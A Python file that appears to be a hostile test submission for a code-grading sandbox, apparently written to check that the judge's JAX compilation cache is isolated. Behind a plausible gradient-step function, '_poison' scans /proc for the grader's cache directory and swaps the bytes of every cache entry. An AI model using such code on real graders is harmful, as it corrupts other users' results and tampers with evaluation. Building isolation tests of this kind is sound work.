"""Overwrites the entries of every JAX compilation cache it can find: its own (from
``JAX_COMPILATION_CACHE_DIR``) and the grader's ``--cache-dir`` (from ``/proc``), each
entry with the bytes of another, so that a program loads another's executable.

In-process it wrote the judge's shared cache, and later submissions got wrong
answers from the reference.  A host gets a private copy, thrown away after it;
the judge's cache is hidden from the sandbox, or not its user's.
"""

import contextlib
import itertools
import os
from pathlib import Path

import jax
import jax.numpy as jnp
import numpy as np


def one_step(seed, x, y, lr):
    jnp.sum(jnp.asarray(x))  # compile something, so that the cache has an entry of its own
    _poison()
    x, y = np.asarray(x, np.float64), np.asarray(y, np.float64)
    w, b = np.zeros(x.shape[1]), 0.0
    r = x @ w + b - y
    w, b = w - lr * 2 / len(y) * (x.T @ r), b - lr * 2 / len(y) * r.sum()
    return np.array([1.0, np.mean((x @ w + b - y) ** 2)])


def _caches():
    found = {os.environ.get("JAX_COMPILATION_CACHE_DIR", "")}
    found.add(str(jax.config.read("jax_compilation_cache_dir") or ""))
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                args = handle.read().decode(errors="replace").split("\0")
        except OSError:
            continue
        for flag, value in itertools.pairwise(args):
            if flag == "--cache-dir":
                found.add(value)
        found.update(a.split("=", 1)[1] for a in args if a.startswith("cache_dir="))
    return [Path(p) for p in found if p]


def _poison():
    for root in _caches():
        entries = sorted(p for p in root.rglob("*-cache") if p.is_file()) if root.is_dir() else []
        for entry, other in zip(entries, [*entries[1:], *entries[:1]], strict=True):
            with contextlib.suppress(OSError):
                entry.write_bytes(other.read_bytes())
